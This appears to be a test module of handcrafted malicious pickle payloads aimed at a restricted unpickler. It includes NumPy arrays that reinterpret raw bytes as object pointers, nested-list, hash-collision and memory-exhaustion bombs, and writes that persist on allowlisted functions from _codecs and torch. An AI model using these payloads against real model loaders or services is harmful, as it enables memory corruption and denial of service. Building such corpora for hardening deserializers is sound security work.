"""Pickles that no pickler writes: put together opcode by opcode, as an attacker would.

A pickle is a program for a small machine with a stack. Each function returns the bytes of one.
"""
import pickle
import struct

MARK, TUPLE, SETITEM = pickle.MARK, pickle.TUPLE, pickle.SETITEM
REDUCE, BUILD, STOP = pickle.REDUCE, pickle.BUILD, pickle.STOP
TRUE, FALSE, NONE = pickle.NEWTRUE, pickle.NEWFALSE, pickle.NONE
MILLION = 10 ** 6


def name(module, function):
    """Push what a module holds under a name."""
    return pickle.GLOBAL + f'{module}\n{function}\n'.encode()


def text(letters):
    """Push a text."""
    data = letters.encode()
    return pickle.BINUNICODE + struct.pack('<I', len(data)) + data


def number(value):
    """Push a whole number of 32 bits."""
    return pickle.BININT + struct.pack('<i', value)


def room(data):
    """Push a bytearray."""
    return pickle.BYTEARRAY8 + struct.pack('<Q', len(data)) + data


def letters(data):
    """Push bytes, fewer than 256."""
    return pickle.SHORT_BINBYTES + bytes([len(data)]) + data


def tuple_of(*items):
    return MARK + b''.join(items) + TUPLE


def call(function, *arguments):
    return function + tuple_of(*arguments) + REDUCE


def keep(place):
    """Remember the top of the stack under a number below 256."""
    return pickle.BINPUT + bytes([place])


def fetch(place):
    """Push what was remembered under a number."""
    return pickle.BINGET + bytes([place])


def program(*parts, protocol=5):
    return pickle.PROTO + bytes([protocol]) + b''.join(parts) + STOP


# ------------------------------------------------------------------------- memory that is not ours

OBJECTS = call(name('numpy', 'dtype'), text('O'), FALSE, TRUE)
NOT_OBJECTS = tuple_of(number(3), text('|'), NONE, NONE, NONE, number(-1), number(-1), number(0))
ARRAY = name('numpy', 'ndarray')


def address_as_object():
    """Eight bytes as an array of objects that says it holds none; then the object is replaced."""
    kind = OBJECTS + NOT_OBJECTS + BUILD
    array = call(name('numpy._core.numeric', '_frombuffer'), room(b'\x41' * 8), kind,
                 tuple_of(number(1)), text('C'))
    return program(array, number(0), number(1), SETITEM)


def address_as_object_in_an_old_array():
    """The same by way of the function that older versions of NumPy name."""
    kind = OBJECTS + NOT_OBJECTS + BUILD
    empty = call(name('numpy.core.multiarray', '_reconstruct'), ARRAY, tuple_of(number(0)),
                 letters(b'b'))
    state = tuple_of(number(1), tuple_of(number(1)), kind, FALSE, letters(b'\x41' * 8))
    return program(empty, state, BUILD, MARK, number(0), number(1), pickle.SETITEMS)


# --------------------------------------------------------------------------------- time and memory


def lists_of_ten(n_levels=12):
    """Lists in lists, ten in each: a few hundred bytes, and 10^12 items should anyone count."""
    steps = number(1)
    for _ in range(n_levels):
        steps = pickle.EMPTY_LIST + MARK + steps + keep(0) + fetch(0) * 9 + pickle.APPENDS
    return steps


def tuples_of_ten(n_levels=12):
    """The same in tuples."""
    steps = number(1)
    for _ in range(n_levels):
        steps = tuple_of(steps + keep(0) + fetch(0) * 9)
    return steps


def lists_as_dtype():
    """The error message of NumPy would write out 10^12 items."""
    return program(name('numpy', 'dtype') + lists_of_ten() + pickle.TUPLE1 + REDUCE, protocol=2)


def long_text_as_dtype():
    """20 MB of commas: NumPy takes them for a list of fields."""
    return program(call(name('numpy', 'dtype'), text('f4,' * (20 * MILLION // 3))), protocol=2)


def tuples_as_key():
    """The hash of a tuple looks at all that is in it, here 10^12 items, each time anew."""
    return program(pickle.EMPTY_DICT, tuples_of_ten(), number(1), SETITEM, protocol=2)


def keys_of_one_hash():
    """Numbers with the same hash: each new one is compared with all before it."""
    steps = [pickle.EMPTY_DICT, MARK]
    for factor in range(1, 60_000):
        data = pickle.encode_long(factor * (2 ** 61 - 1))
        steps += [pickle.LONG1, bytes([len(data)]), data, NONE]
    return program(*steps, pickle.SETITEMS, protocol=2)


def ten_million_lists():
    """A byte makes a list of 56 bytes: 10 MB of them are 0.6 GB, and take long."""
    return program(pickle.EMPTY_LIST, MARK, pickle.EMPTY_LIST * (10 * MILLION), pickle.APPENDS,
                   protocol=2)


def a_text_made_bytes_again_and_again():
    """One text of 1 MB, turned into bytes 3,000 times."""
    again = call(name('_codecs', 'encode') + keep(1), text('x' * MILLION) + keep(2),
                 text('latin1') + keep(3))
    more = fetch(1) + MARK + fetch(2) + fetch(3) + TUPLE + REDUCE
    return program(pickle.EMPTY_LIST, MARK, again, more * 3000, pickle.APPENDS, protocol=2)


# ------------------------------------------------------------------------ what outlives the reading


def attribute_of_a_function():
    """Write to the attributes of an allowed function, which keeps them as long as Python runs."""
    state = pickle.EMPTY_DICT + text('owned') + TRUE + SETITEM
    return program(name('_codecs', 'encode'), state, BUILD, protocol=2)


def attribute_of_a_rebuild():
    """The same with a function of torch's."""
    state = pickle.EMPTY_DICT + text('owned') + TRUE + SETITEM
    return program(name('torch._utils', '_rebuild_parameter'), state, BUILD, protocol=2)


PROGRAMS = {
    'an address as object': address_as_object,
    'an address as object in an old array': address_as_object_in_an_old_array,
    'lists as dtype': lists_as_dtype,
    'a long text as dtype': long_text_as_dtype,
    'tuples as key': tuples_as_key,
    'keys of one hash': keys_of_one_hash,
    'ten million lists': ten_million_lists,
    'a text made bytes again and again': a_text_made_bytes_again_and_again,
    'an attribute of a function': attribute_of_a_function,
    "an attribute of torch's": attribute_of_a_rebuild,
}
